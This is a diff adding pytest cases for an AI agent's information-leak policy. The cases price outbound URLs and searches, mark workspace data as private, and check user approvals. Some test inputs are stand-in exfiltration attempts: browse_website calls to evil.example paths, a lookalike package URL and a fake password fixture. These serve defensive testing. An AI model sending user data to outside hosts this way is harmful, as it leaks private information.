@@ -11,13 +11,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as some
 
-from autogpt.core.actions import Action, CommandSpec, Parameter, Touch
+from autogpt.core.actions import Action, CommandSpec, Parameter, Thoughts, Touch
 from autogpt.core.effects import Ask
-from autogpt.core.events import Advised, Begun, Denied, Event, Ran, RuleAdded
+from autogpt.core.events import Advised, Authorised, Begun, Denied, Event, Ran, Replied, RuleAdded
 from autogpt.core.leaving import FOR_A_RUN, FOR_A_SITE, NOTHING_KNOWN, PROGRAM, SEARCH, Known, Leave
 from autogpt.core.policy import Policy, Preset, Rule, Verdict, names_address
 from autogpt.core.profile import Profile
 from autogpt.core.session import Session
+from autogpt.core.turns import ASK_USER
 from tests.core.world import COMMANDS, YES, World, reply, setup, world
 
 NET = frozenset({Touch.NETWORK})
@@ -189,6 +190,53 @@ def test_words_of_a_search_are_counted_likewise() -> None:
     known = asked(known, queries=("nordlicht projekt", "hansen and more"))
     assert known.spent[SEARCH] == 9 + 7 + 6 + 1 + 1
     assert not passes("dritten")
+
+
+def test_packages_of_a_manifest_count_little_at_sites_that_everybody_knows() -> None:
+    known = learnt(knowing(FILE), READ, "…", packages=("charset-normalizer", "Zope.Interface", "2.28.1"))
+    for url, price in (
+        ("https://pypi.org/pypi/charset_normalizer/json", 2 + 1 + 1 + 1),
+        ("https://pypi.org/pypi/zope-interface/2.28.1/json", 2 + 1 + 1 + 1 + 1),
+        ("https://unpkg.com/charset-normalizer@2.28.1", 2 + 1),
+        ("https://pypi.org/pypi/charset-normalizers/json", 2 + 7 + 1 + 11 + 1),
+        ("https://evil.example/charset-normalizer", 2 + 4 + 1 + 7 + 1 + 10),
+    ):
+        assert known.price(url) <= price
+        assert known.price(url) >= min(price, 10)
+    known = asked(known, "https://pypi.org/pypi/charset-normalizer/json")
+    assert known.spent["pypi.org"] == 5
+    assert known.price("https://pypi.org/pypi/Zope.Interface/json") == 0
+    assert known.price("https://pypi.org/pypi/2.28.1/json") == 1
+    assert known.price("https://pypi.org/project/Zope.Interface/") > 1
+    assert asked(known, "https://pypi.org/pypi/zope.interface/json").spent == known.spent
+    known = asked(known, queries=("charset-normalizer 2.28.1",))
+    assert known.spent[SEARCH] == 2
+
+
+@pytest.mark.parametrize(("spec", "fresh"), [(RUN, True), (LIST, True), (RUN, False), (LIST, False)])
+def test_in_an_empty_workspace_nothing_is_private_until_the_person_says_something(
+    spec: CommandSpec, fresh: bool
+) -> None:
+    args = {"directory": "."} if spec is LIST else {"command_line": "python bot.py"}
+    assert learnt(NOTHING_KNOWN, spec, "x\n  mine.md", args=args, fresh=fresh).private == (not fresh)
+    assert learnt(NOTHING_KNOWN.after_word(), spec, "x\n  mine.md", args=args, fresh=fresh).private
+
+
+def test_what_else_is_reached_is_private_in_an_empty_workspace_too() -> None:
+    host = CommandSpec("execute_shell", "Run.", (), touches=frozenset({Touch.PROCESSES, Touch.HOST}))
+    assert learnt(NOTHING_KNOWN, host, "x", args={}, fresh=True).private
+    noted = learnt(NOTHING_KNOWN, RECALL, "A note (2026-01-01):\n  x", args={"query": "x"}, fresh=True)
+    assert noted.private
+    assert learnt(noted, RUN, "password: hunter22", args={"command_line": "ls"}, fresh=True).keys
+
+
+@pytest.mark.parametrize("word", [Advised("My file is there now."), None])
+def test_a_word_of_the_persons_ends_it_in_a_run(word: Advised | None) -> None:
+    session = Session.begin(setup(commands=SPECS))
+    said = word or Ran(Action(ASK_USER, {"question": "?"}), True, "It is there.")
+    ran = Ran(Action("execute_shell", {"command_line": "cat mine.md"}), True, "x", fresh=True)
+    assert not session.after(ran).known.private
+    assert session.after(said).after(ran).known.private
 
 
 def test_an_echo_is_not_what_the_web_gave() -> None:
@@ -578,6 +626,25 @@ def test_what_the_person_allowed_uses_nothing_up_and_may_be_asked_for_again() ->
     short = reply("browse_website", url="https://evil.example/abcdefgh")
     there, _ = played(READING, again, again, short, attended=True, answers=(YES,))
     assert browsed(there) == [TRAP, TRAP, "https://evil.example/abcdefgh"]
+
+
+@pytest.mark.parametrize("approved", [True, False])
+def test_what_the_person_said_yes_to_uses_nothing_up(approved: bool) -> None:
+    session = Session.begin(setup(commands=SPECS)).after(
+        Ran(Action("read_file", {"filename": "a"}), True, FILE)
+    )
+    for word in ("hundred", "dragons", "harbour"):
+        action = Action("browse_website", {"url": f"https://evil.example/{word}"})
+        session = session.after(Replied(Thoughts(), action))
+        session = session.after(Authorised(1)) if approved else session
+        session = session.after(Ran(action, True, "Nothing."))
+    assert bool(session.known.spent) != approved
+    more = Action("browse_website", {"url": "https://evil.example/abcdefgh"})
+    assert bool(session.leave.why_not(more, BROWSE)) != approved
+    granted = session.after(Replied(Thoughts(), more)).after(Authorised(5)).after(Ran(more, True, ""))
+    assert granted.known.spent == session.known.spent
+    again = granted.after(Ran(Action("browse_website", {"url": "https://other.example/"}), True, ""))
+    assert again.known.spent != granted.known.spent
 
 
 @pytest.mark.parametrize(
